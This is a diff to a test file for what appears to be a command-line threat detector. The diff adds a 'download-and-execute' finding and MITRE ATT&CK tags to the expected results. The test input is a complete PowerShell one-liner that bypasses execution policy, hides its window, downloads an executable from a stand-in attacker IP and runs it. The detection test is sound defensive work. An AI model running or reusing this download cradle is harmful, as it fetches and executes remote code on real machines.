@@ -9,8 +9,9 @@ describe('analyzeCommand', () => {
       `powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -Command "(New-Object Net.WebClient).DownloadFile('http://203.0.113.45/update.exe','C:\\Users\\Public\\update.exe'); Start-Process C:\\Users\\Public\\update.exe"`,
     );
     expect(r.decoded).toBeNull();
-    expect(r.findings.map((f) => f.id)).toEqual(['execution-policy-bypass', 'hidden-window', 'no-profile', 'download-cradle', 'process-start']);
-    expect(r.findings[0]).toEqual({ id: 'execution-policy-bypass', evidence: '-ExecutionPolicy Bypass' });
+    // Issue 21: a download then a Start-Process of the downloaded file is also download-and-execute.
+    expect(r.findings.map((f) => f.id)).toEqual(['execution-policy-bypass', 'hidden-window', 'no-profile', 'download-cradle', 'process-start', 'download-and-execute']);
+    expect(r.findings[0]).toEqual({ id: 'execution-policy-bypass', evidence: '-ExecutionPolicy Bypass', mitre: 'T1059.001', layer: 'cmd' });
     expect(r.iocs).toEqual({ ips: ['203.0.113.45'], urls: ['http://203.0.113.45/update.exe'], domains: [], hashes: [] });
   });
 
@@ -46,6 +47,7 @@ describe('analyzeCommand', () => {
       'execution-policy-bypass',
       'download-cradle',
       'invoke-expression',
+      'download-and-execute',
     ]);
   });
 
